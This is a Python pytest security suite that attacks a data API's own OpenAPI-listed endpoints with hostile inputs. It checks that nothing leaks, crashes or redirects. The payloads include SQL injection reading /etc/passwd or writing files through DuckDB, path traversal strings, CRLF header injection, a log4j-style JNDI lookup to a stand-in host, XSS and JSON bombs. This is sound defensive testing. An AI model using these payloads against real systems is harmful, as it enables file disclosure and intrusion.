"""The public API under injection and traversal attempts, in every parameter and path.

The operations and their parameters are read from the app's own OpenAPI document, so a new
operation or parameter is attacked without editing this file (an alias with the same
parameters, /api/action/… of /api/3/action/… or HEAD of GET, once). Each parameter in turn gets
every hostile value (the others keep values that work, so the hostile one reaches the code
behind them). Every answer must be a 4xx or a normal answer, never a 5xx; never carry the
marker of the sentinel files planted around the public root (the lake beside it, the folder
above it, a hidden file in it, /tmp) or /etc/passwd; and never show a DuckDB error, a Python
traceback or a private path. Paths that HTTP clients normalise away are sent over a raw socket.
"""
from __future__ import annotations

import base64
import json
import re
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from tests.conftest import REPO
from tests.lakes import serving
from tests.security.conftest import AQ, Released
from tests.security.wire import Answer, Asgi, raw_request

MARKER = f"private-{uuid.uuid4().hex}"                 # what the sentinel files hold
SENTINEL = f"sentinel-{uuid.uuid4().hex[:12]}.txt"      # their name (echoed in a 404 is fine)
TMP_SENTINEL = f"/tmp/{SENTINEL}"
WRITTEN = f"/tmp/pwned-{uuid.uuid4().hex[:12]}"            # what an injected COPY or ATTACH would create
ROOT_ENTRY = b"root:x:0:0"                 # the first line of /etc/passwd
# Text that shows the engine or the code behind an answer: DuckDB's error classes, a traceback,
# a source or lake path. A hostile value that contains one of these is not checked for it.
LEAKS = ("Traceback", "Binder Error", "Parser Error", "Catalog Error", "Conversion Error", "Invalid Input Error",
         "IO Error", "Out of Range Error", "Permission Error", "INTERNAL Error", "duckdb", "pyarrow",
         'File "/', "site-packages", str(REPO))
HUGE = "A" * 100_000

# Values a valid request carries, by parameter name: the hostile value goes in one parameter,
# these fill the rest. A name not listed is left out of the baseline.
VALID = {"limit": "5", "dataset_id": AQ, "dataset": AQ, "metric": "pm25", "path": "latest.json", "name": "datastore_search",
         "resource_id": AQ, "id": AQ, "serviceKey": "any-open-key", "stationName": "행신동",
         "resource": "Datastreams('aq-ref-0001:pm25')/Observations"}


def hostile_values(*paths: str) -> list[str | bytes]:
    """Injection, traversal (and ``paths``: absolute paths of the sentinels), header injection,
    oversized, odd unicode and extreme numbers. bytes are sent as they are (percent-encoded),
    e.g. invalid UTF-8."""
    sql = ["' OR '1'='1", "1; DROP TABLE x", "\") UNION SELECT * FROM read_csv('/etc/passwd')--",
           "read_parquet('/etc/passwd')", f"read_text('{TMP_SENTINEL}')", f"') UNION SELECT * FROM read_text('{TMP_SENTINEL}')--",
           "x\" FROM read_csv_auto('/etc/passwd') --", f"'; ATTACH '{WRITTEN}.duckdb' AS pwn; --",
           "1 UNION SELECT getenv('HOME')", "current_setting('home_directory')", "glob('/*')",
           "pm25) FROM read_text('/etc/passwd') --", f"COPY (SELECT 1) TO '{WRITTEN}.csv'",
           "device_id:eq:' OR 1=1 --", "pm25:gt:0 OR 1=1", "device_id\" OR 1=1 --:eq:x",
           "name eq 'x' or 1 eq 1", "substringof('a', name)", "name eq '' OR ''1''=''1'",
           '{"device_id": "x\' OR 1=1 --"}', '{"\\"device_id\\" OR 1=1 --": "x"}', '{"$gt": ""}',
           "device_id desc, (SELECT 1)", "device_id; DROP TABLE x"]
    traversal = ["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd",
                 "%252e%252e%252fetc%252fpasswd", "..\\..\\etc\\passwd", "/etc/passwd", "file:///etc/passwd",
                 "....//....//etc/passwd", "..;/etc/passwd", "latest.json\x00.png", "latest.json%00",
                 f"../lake/{SENTINEL}", f"../{SENTINEL}", f".{SENTINEL}", TMP_SENTINEL, f"file://{TMP_SENTINEL}",
                 f"../../../../../../..{TMP_SENTINEL}", f"..%2f..%2f..%2f..%2f..%2f..%2ftmp%2f{SENTINEL}"]
    header = ["x\r\nSet-Cookie: pwned=1", "%0d%0aSet-Cookie:%20pwned=1", "x\r\n\r\n<script>alert('pwned')</script>",
              "x\nLocation: https://pwned.example/"]
    odd = [HUGE, "", " ", "\u202eevil", "\ufeffpm25", "ｐｍ２５", "a\u0301\u0301\u0301", "😀" * 500, "\x01\x7f\x1b[31m",
           "null", "NaN", "undefined", "%s%s%s%n", "{0}{1}", "${jndi:ldap://pwned.example/a}", "<script>alert(1)</script>",
           b"\xff\xfe\xed\xa0\x80", b"\xc0\xae\xc0\xae/etc/passwd"]
    numbers = ["0", "-1", "-0", "2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
               "1e308", "1e309", "Infinity", "-Infinity", "0x10", "1_000", "１２", "²", "¹²³", "9" * 5000, "1.5"]
    return [*sql, *traversal, *paths, *header, *odd, *numbers]


@dataclass
class Api:
    released: Released
    call: Asgi                               # the app in process
    base: str                                # the app under uvicorn, for raw requests
    doc: dict[str, Any]

    @property
    def sentinels(self) -> list[str]:
        """The lake's sentinel by its absolute path, as a path and as DuckDB would read it."""
        path = self.released.lake / SENTINEL
        return [str(path), f"file://{path}", f"read_text('{path}')"]


@pytest.fixture(scope="module")
def api(released: Released) -> Iterator[Api]:
    """The app over the package's release, in process and under uvicorn, with sentinel files
    planted around the public root: in the lake beside it, in the folder above it, hidden in
    it (a dot file is never served) and in /tmp."""
    from publish.api.app import create_app

    planted = [released.lake / SENTINEL, released.lake / "gold" / SENTINEL, released.root / SENTINEL,
               released.public / f".{SENTINEL}", Path(TMP_SENTINEL)]
    for path in planted:
        path.write_text(f"{MARKER}\n")
    app = create_app(released.store, rate_limits={"anonymous": 10**9})
    call = Asgi(app)
    try:
        with serving(app) as base:
            yield Api(released, call, base, call("GET", "/openapi.json").json())
    finally:
        call.close()
        for path in planted:
            path.unlink(missing_ok=True)


# ---- checks -----------------------------------------------------------------------------------------

def problems_of(answer: Answer, sent: str | bytes, what: str, lake: Path, published_file: bool = False) -> list[str]:
    """What is wrong with one answer (empty: nothing)."""
    out = []
    if answer.status >= 500:
        out.append(f"{what}: {answer.status} {answer.body[:200]!r}")
    blob = answer.body + "\n".join(f"{k}: {v}" for k, v in answer.headers.items()).encode(errors="replace")
    if MARKER.encode() in blob:
        out.append(f"{what}: a sentinel file's content is in the answer")
    if ROOT_ENTRY in blob:
        out.append(f"{what}: /etc/passwd is in the answer")
    if any(k == "set-cookie" or "pwned" in k for k in answer.headers):
        out.append(f"{what}: a header was injected: {answer.headers}")
    if off_site(answer.headers.get("location", "")):
        out.append(f"{what}: a redirect to another site: {answer.headers['location']}")
    if not (published_file and answer.status < 300):      # a published file may mention DuckDB itself
        sent_text = (sent.decode(errors="replace") if isinstance(sent, bytes) else sent).lower()
        text = answer.body.decode(errors="replace")
        lower = text.lower()
        for leak in (*LEAKS, str(lake)):
            if leak.lower() in lower and leak.lower() not in sent_text:
                out.append(f"{what}: {leak!r} in the answer: {text[:300]!r}")
    return out


def off_site(location: str) -> bool:
    """A Location a browser would follow to another host: ``//host``, ``/\\host``, ``///host``
    (browsers drop tabs and newlines and read a backslash as a slash), or an absolute URL."""
    url = location.translate({9: None, 10: None, 13: None}).replace("\\", "/")
    return url.startswith("//") or re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", url) is not None


def _report(problems: list[str]) -> str:
    return f"{len(problems)} problem(s):\n" + "\n".join(problems[:40])


@dataclass(frozen=True)
class Operation:
    method: str
    path: str                                # the template, e.g. /v1/datasets/{dataset_id}/rows
    parameters: list[dict[str, Any]]         # path, query and header parameters
    body: dict[str, Any] | None              # the JSON body's properties, for a POST

    @property
    def published_file(self) -> bool:
        return self.path.startswith("/files/")

    def baseline(self, attacked: str | None = None) -> dict[str, Any]:
        """Valid values of the path, query and body parameters. A CKAN parameter names the
        action that reads it in its description ("package_search: …"): that action is asked."""
        names = [p["name"] for p in self.parameters if p["in"] != "header"] + list(self.body or {})
        values = {n: VALID[n] for n in names if n in VALID}
        actions = next((p["schema"].get("enum", []) for p in self.parameters if p["name"] == "name"), [])
        described = {p["name"]: p.get("description", "") for p in self.parameters}
        described |= {n: s.get("description", "") for n, s in (self.body or {}).items()}
        reader = described.get(attacked or "", "").split(":", 1)[0]
        if reader in actions:
            values["name"] = reader
        return values

    def target(self, values: dict[str, Any]) -> str:
        """The request target: path parameters in the path, the query parameters after it,
        every value percent-encoded whole (a ``/`` in a value is ``%2F``)."""
        url, query = self.path, []
        for p in self.parameters:
            if p["name"] in values and p["in"] == "path":
                url = url.replace("{" + p["name"] + "}", quote(values[p["name"]], safe=""))
            elif p["name"] in values and p["in"] == "query":
                query.append(f"{quote(p['name'], safe='$')}={quote(values[p['name']], safe='')}")
        return url + ("?" + "&".join(query) if query else "")

    def send(self, api: Api, values: dict[str, Any], headers: dict[str, bytes] | None = None,
             body: bytes | None = None) -> Answer:
        if body is None and self.body:
            body = json.dumps({k: v for k, v in values.items() if k in (self.body or {})}).encode()
            headers = {"content-type": b"application/json", **(headers or {})}
        return api.call(self.method, self.target(values), headers, body or b"")


def operations(doc: dict[str, Any], aliases: bool = False) -> list[Operation]:
    """The document's operations; without ``aliases``, one that is another's twin (the same
    parameters, body and answers: /api/action/… for /api/3/action/…, HEAD for GET) is left out."""
    ops, seen = [], set()
    for path, methods in doc["paths"].items():
        for method in sorted(methods, key=lambda m: m != "get"):
            op = methods[method]
            twin = json.dumps({k: v for k, v in op.items() if k not in ("operationId", "summary")}, sort_keys=True)
            if twin in seen and not aliases:
                continue
            seen.add(twin)
            body = (op.get("requestBody", {}).get("content", {}).get("application/json", {})
                    .get("schema", {}).get("properties"))
            ops.append(Operation(method.upper(), path, op.get("parameters", []), body))
    return ops


# ---- every operation, every parameter ---------------------------------------------------------------

def test_the_document_lists_every_kind_of_operation(api: Api) -> None:
    ops = operations(api.doc, aliases=True)
    assert len(operations(api.doc)) < len(ops)
    assert {"/v1/datasets/{dataset_id}/rows", "/v1/series", "/files/{path}", "/api/3/action/{name}",
            "/B552584/ArpltnInforInqireSvc/getMsrstnAcctoRltmMesureDnsty", "/sta/v1.1/{resource}"} <= {o.path for o in ops}
    assert sum(len(op.parameters) for op in ops) > 60 and any(op.body for op in ops)
    for op in ops:                      # the baseline requests work: hostile values reach real code
        answer = op.send(api, op.baseline())
        assert answer.status == 200, (op.method, op.path, answer.status, answer.body[:300])


def _header_value(value: str | bytes) -> bytes | None:
    raw = value if isinstance(value, bytes) else value.encode()
    return None if any(c in raw for c in b"\r\n\x00") else raw    # a server refuses these before the app


def test_hostile_values_in_every_parameter(api: Api) -> None:
    """Each parameter of each operation, in turn, with every hostile value."""
    problems: list[str] = []
    sent = 0
    for op in operations(api.doc):
        for p in op.parameters:
            values = op.baseline(p["name"])
            for value in hostile_values(*api.sentinels):
                if p["in"] == "header":
                    raw = _header_value(value)
                    if raw is None:
                        continue
                    answer = op.send(api, values, {p["name"]: raw})
                else:
                    answer = op.send(api, {**values, p["name"]: value})
                what = f"{op.method} {op.path} {p['in']} {p['name']}={value[:60]!r}"
                problems += problems_of(answer, value, what, api.released.lake, op.published_file)
                sent += 1
    assert sent > 4000
    assert not problems, _report(problems)
    assert not list(Path("/tmp").glob(f"{Path(WRITTEN).name}*")), "an injected statement wrote a file"


JSON_VALUES: list[Any] = [None, True, -1, 0, 2**63, -(2**63) - 1, 10**40, 1.5, 1e308, [], {}, [[[[[]]]]],
                          {"$gt": ""}, ["a"] * 10_000, {"device_id": {"$ne": None}}, {"a": [1, {"b": None}]}]


def test_hostile_json_in_every_body_property(api: Api) -> None:
    """The POST bodies (CKAN's): every property with every hostile string and odd JSON values."""
    problems: list[str] = []
    for op in (o for o in operations(api.doc) if o.body):
        for name in op.body or {}:
            values = op.baseline(name)
            for value in [v for v in hostile_values(*api.sentinels) if isinstance(v, str)] + JSON_VALUES:
                answer = op.send(api, {**values, name: value})
                problems += problems_of(answer, json.dumps(value), f"POST {op.path} {name}={str(value)[:60]!r}",
                                        api.released.lake)
    assert not problems, _report(problems)


def json_bombs() -> list[tuple[str, bytes, bytes]]:
    """(what, content type, body): nesting past the parser's recursion limit, big documents,
    numbers past any integer, bodies that are not an object or not UTF-8."""
    deep = 100_000
    aq = AQ.encode()
    return [("deep array", b"application/json", b"[" * deep + b"]" * deep),
            ("deep object", b"application/json", b'{"a":' * deep + b"1" + b"}" * deep),
            ("deep filters", b"application/json", b'{"resource_id":"' + aq + b'","filters":' + b"[" * deep + b"]" * deep + b"}"),
            ("deep filters as text", b"application/json",
             json.dumps({"resource_id": AQ, "filters": "[" * deep + "]" * deep}).encode()),
            ("wide object", b"application/json", json.dumps({f"k{i}": i for i in range(200_000)}).encode()),
            ("wide filters", b"application/json",
             json.dumps({"resource_id": AQ, "filters": {"device_id": [f"x{i}" for i in range(20_000)]}}).encode()),
            ("long string", b"application/json", json.dumps({"id": "x" * 1_000_000}).encode()),
            ("huge number", b"application/json", b'{"resource_id":"' + aq + b'","limit":1' + b"0" * 5000 + b"}"),
            ("1e999", b"application/json", b'{"resource_id":"' + aq + b'","offset":1e999}'),
            ("NaN", b"application/json", b'{"resource_id":"' + aq + b'","limit":NaN}'),
            ("duplicate keys", b"application/json", b'{"id":"x","id":"' + aq + b'"}'),
            ("not an object", b"application/json", b"[1,2,3]"), ("null", b"application/json", b"null"),
            ("a string", b"application/json", b'"' + b"x" * 1000 + b'"'),
            ("truncated", b"application/json", b'{"id": "air'), ("not UTF-8", b"application/json", b'{"id":"\xff\xfe"}'),
            ("UTF-16", b"application/json", json.dumps({"id": AQ}).encode("utf-16")),
            ("BOM", b"application/json", b"\xef\xbb\xbf" + json.dumps({"id": AQ}).encode()),
            ("form", b"application/x-www-form-urlencoded", b"resource_id=" + aq + b"&filters=" + b"%5B" * deep),
            ("multipart junk", b"multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data\r\n\r\n"),
            ("no content type", b"", b"{" * 1000)]


def test_json_bombs_in_ckan_posts(api: Api) -> None:
    problems: list[str] = []
    ops = [o for o in operations(api.doc) if o.body]
    bombs = json_bombs()
    assert ops
    for op in ops:
        for action in ("datastore_search", "package_show"):
            for what, ctype, body in bombs:
                answer = op.send(api, {"name": action}, {"content-type": ctype} if ctype else {}, body)
                problems += problems_of(answer, "", f"POST {op.path.replace('{name}', action)} {what}",
                                        api.released.lake)
                if what.startswith("deep") and answer.status < 500:
                    assert answer.status in (400, 409) and answer.json()["success"] is False, (what, answer)
                if what == "wide filters" and action == "datastore_search":     # not 20,000 checks: refused
                    assert answer.status == 409 and "filters" in answer.json()["error"], answer
    assert not problems, _report(problems)


def test_deep_json_in_a_get_filter(api: Api) -> None:
    deep = "[" * 50_000 + "]" * 50_000
    answer = api.call("GET", f"/api/3/action/datastore_search?resource_id={AQ}&filters={quote(deep)}")
    assert answer.status == 409 and answer.json()["success"] is False, answer


def test_tampered_cursors(api: Api) -> None:
    """A cursor is base64 JSON the client gives back: a tampered one is a page (its values are
    bound, cast to their columns' types) or a 400, also when nested past the parser's limit."""
    problems: list[str] = []
    first = api.call("GET", f"/v1/datasets/{AQ}/rows?limit=1")
    assert first.status == 200 and first.json()["next"]
    token = parse_qs(urlsplit(first.json()["next"]).query)["cursor"][0]
    doc = json.loads(base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)))
    docs: list[Any] = [{"o": doc["o"], "k": [[]] * 5_000}, "[" * 100_000 + "]" * 100_000, None, [], "x"]
    for value in [v for v in hostile_values() if isinstance(v, str)] + JSON_VALUES:
        docs += [{"o": doc["o"], "k": [*doc["k"][:-1], value]}, {"o": doc["o"], "k": [value, *doc["k"][1:]]},
                 {"o": value, "k": doc["k"]}]
    for tampered in docs:
        raw = (tampered if isinstance(tampered, str) else json.dumps(tampered)).encode()
        cursor = base64.urlsafe_b64encode(raw).decode().rstrip("=")
        answer = api.call("GET", f"/v1/datasets/{AQ}/rows?limit=5&cursor={cursor}")
        problems += problems_of(answer, raw, f"cursor {raw[:80]!r}", api.released.lake)
        if answer.status not in (200, 400):
            problems.append(f"cursor {raw[:80]!r}: {answer.status}")
    assert not problems, _report(problems)


# ---- paths: the public tree and nothing beside it ---------------------------------------------------

def traversals() -> list[str]:
    """Ways out of the public root, as they reach the app once the server has decoded them."""
    return [f"../lake/{SENTINEL}", f"../{SENTINEL}", f"../../../../../..{TMP_SENTINEL}", TMP_SENTINEL,
            f"/{SENTINEL}", f".{SENTINEL}", f"datasets/../../lake/{SENTINEL}", f"portal/../../{SENTINEL}",
            f"..\\lake\\{SENTINEL}", f"..\\{SENTINEL}", f"\\..\\{SENTINEL}", f"C:\\{SENTINEL}",
            f"latest.json\x00/../../{SENTINEL}", f"..\x00/{SENTINEL}", "../../etc/passwd", "/etc/passwd",
            "//etc/passwd", "./latest.json", "datasets/./../latest.json", "..", ".", "../lake", "../lake/gold",
            "../lake/gold/", f"%2e%2e/lake/{SENTINEL}", f"%252e%252e%252flake%252f{SENTINEL}", f"..%c0%af{SENTINEL}",
            "../../../../../../etc", "/etc", "//pwned.example/x", "/\\pwned.example/x"]


@pytest.mark.parametrize("prefix", ["/files/", "/", "/portal/"])
def test_traversal_paths_are_not_found(api: Api, prefix: str) -> None:
    """Every way out of the public root, sent whole (``/`` as ``%2F``) and with its slashes:
    404 (or 400), never the file, never a redirect."""
    problems: list[str] = []
    for path in traversals() + api.sentinels[:1]:
        for target in (prefix + quote(path, safe=""), prefix + quote(path, safe="/")):
            answer = api.call("GET", target)
            if answer.status not in (400, 404):
                problems.append(f"{target}: {answer.status} {answer.headers.get('location', '')}")
            problems += problems_of(answer, path, target, api.released.lake)
    assert not problems, _report(problems)


RAW_TARGETS = [f"/files/../lake/{SENTINEL}", f"/%2e%2e/lake/{SENTINEL}", "//etc/passwd", f"/../{SENTINEL}",
               f"/files/../../{SENTINEL}", f"/portal/../../lake/{SENTINEL}", f"/files/%2e%2e/%2e%2e/{SENTINEL}",
               f"/files/..%2f..%2f{SENTINEL}", f"/files/..%5c..%5c{SENTINEL}", f"/files/%2e%2e%5clake%5c{SENTINEL}",
               f"/..\\lake\\{SENTINEL}", f"/files/latest.json%00/../../{SENTINEL}", f"/files/.{SENTINEL}",
               f"/.{SENTINEL}", "/files/./latest.json", f"//{TMP_SENTINEL}", f"/files//{TMP_SENTINEL}",
               f"/files/%2F{TMP_SENTINEL}", f"/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e{TMP_SENTINEL}",
               "/files/../../../../../../etc/passwd", "/..", "/../lake", "/portal/..", "/portal/../..", "/portal/../../lake/",
               f"/files/%252e%252e/lake/{SENTINEL}", f"/files/..%c0%af{SENTINEL}", "/files/..", "/files/../",
               f"http://127.0.0.1/../lake/{SENTINEL}", f"/datasets/../../lake/gold/{SENTINEL}", "/../../../../etc",
               "//pwned.example/x", "//pwned.example/portal", "/\\pwned.example/x", "/%5cpwned.example/x",
               "/%2f%2fpwned.example/x", "/%2F/pwned.example/x", "///pwned.example/x"]


def test_raw_requests_that_clients_would_normalise(api: Api) -> None:
    """Over the wire to uvicorn, as written: dot segments, encoded slashes, double slashes,
    a path that names another host (``//host/x``: a redirect to ``//host/x/`` would send a
    browser there). Each is a 404 or 400 without a Location."""
    problems: list[str] = []
    for target in RAW_TARGETS:
        answer = raw_request(api.base, target)
        if answer.status not in (400, 404) or "location" in answer.headers:
            problems.append(f"{target}: {answer.status} {answer.headers.get('location', '')}")
        problems += problems_of(answer, target, f"raw {target}", api.released.lake)
    assert not problems, _report(problems)


def test_folders_still_redirect_to_their_index(api: Api) -> None:
    """The counterpart: a folder of the public tree redirects to itself with a slash."""
    for target, location in (("/portal", "/portal/"), ("/portal/datasets", "/portal/datasets/"), ("/", "portal/index.html")):
        answer = raw_request(api.base, target)
        assert answer.status == 307 and answer.headers["location"] == location, (target, answer.status, answer.headers)


def test_header_injection_over_the_wire(api: Api) -> None:
    """CR/LF sent percent-encoded in a path or a parameter never becomes a header line."""
    problems: list[str] = []
    for target in ["/v1/datasets/x%0d%0aSet-Cookie:%20pwned=1", "/portal%0d%0aLocation:%20https://pwned.example",
                   "/datasets%0d%0aSet-Cookie:%20pwned=1/", f"/v1/datasets/{AQ}/rows?cursor=%0d%0aSet-Cookie:%20pwned=1",
                   f"/v1/datasets/{AQ}/rows?limit=1&order=%0d%0aSet-Cookie:%20pwned=1",
                   "/api/3/action/package_show?id=x%0d%0aSet-Cookie:%20pwned=1", "/sta/v1.1/Things%0d%0aX-Pwned:%201"]:
        answer = raw_request(api.base, target)
        problems += problems_of(answer, target, f"raw {target}", api.released.lake)
    assert not problems, _report(problems)
